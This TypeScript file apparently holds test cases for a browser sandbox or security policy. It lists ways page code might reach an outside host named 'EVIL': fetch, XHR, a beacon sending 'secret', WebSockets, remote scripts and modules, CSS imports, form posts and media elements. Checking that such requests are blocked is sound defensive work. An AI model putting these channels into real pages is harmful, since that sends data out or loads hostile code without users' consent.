import { attempt } from './hostile-kinds.ts';

/** Attempts to reach other machines. */
export const network = [
  attempt('fetch', `return (await fetch('EVIL/fetch', { mode: 'no-cors' })).type;`),
  attempt('fetch of the site itself', `return (await fetch('/', { mode: 'no-cors' })).type;`),
  attempt(
    'a request of the old kind',
    `return new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve(request.status);
      request.onerror = () => reject(new Error('refused'));
      request.open('GET', 'EVIL/xhr');
      request.send();
    });`,
  ),
  attempt('a beacon', `navigator.sendBeacon('EVIL/beacon', 'secret');`),
  attempt(
    'a picture',
    `return new Promise((resolve, reject) => {
      const image = new Image();
      image.onload = () => resolve('seen');
      image.onerror = () => reject(new Error('refused'));
      image.src = 'EVIL/image.png';
    });`,
  ),
  attempt(
    'a socket',
    `return new Promise((resolve, reject) => {
      const socket = new WebSocket('EVIL/socket'.replace('http', 'ws'));
      socket.onopen = () => resolve('open');
      socket.onerror = () => reject(new Error('refused'));
    });`,
  ),
  attempt(
    'events from a server',
    `return new Promise((resolve, reject) => {
      const source = new EventSource('EVIL/events');
      source.onopen = () => resolve('open');
      source.onerror = () => reject(new Error('refused'));
    });`,
  ),
  attempt(
    'a style sheet and a font',
    `const style = document.createElement('style');
    style.textContent = '@import "EVIL/sheet.css"; @font-face { font-family: E; src: url(EVIL/font.woff2) } p { font-family: E; background: url(EVIL/background.png) }';
    document.head.append(style);
    await document.fonts.load('12px E');
    return document.fonts.check('12px E') && [...document.fonts].some(({ status }) => status === 'loaded') ? 'a font' : undefined;`,
  ),
  attempt(
    'a script of another origin',
    `return new Promise((resolve, reject) => {
      const script = document.createElement('script');
      script.onload = () => resolve('it ran');
      script.onerror = () => reject(new Error('refused'));
      script.src = 'EVIL/script.js';
      document.head.append(script);
    });`,
  ),
  attempt('a module of another origin', `return import('EVIL/module.js'.trim());`),
  attempt(
    'a connection between browsers',
    `return [RTCPeerConnection, new RTCPeerConnection()].length;`,
  ),
  attempt(
    'hints to the browser',
    `for (const rel of ['preconnect', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'manifest', 'icon']) {
      const link = document.createElement('link');
      Object.assign(link, { rel, href: 'EVIL/' + rel, as: 'script' });
      document.head.append(link);
    }
    await new Promise((resolve) => setTimeout(resolve, 50));`,
  ),
  attempt(
    'a form',
    `const form = document.createElement('form');
    Object.assign(form, { action: 'EVIL/form', method: 'post' });
    document.body.append(form);
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 50));`,
  ),
  attempt(
    'a video, an object and an embedded page',
    `for (const [name, key] of [['video', 'src'], ['audio', 'src'], ['object', 'data'], ['embed', 'src']]) {
      const element = document.createElement(name);
      element[key] = 'EVIL/' + name;
      document.body.append(element);
    }
    await new Promise((resolve) => setTimeout(resolve, 50));`,
  ),
];
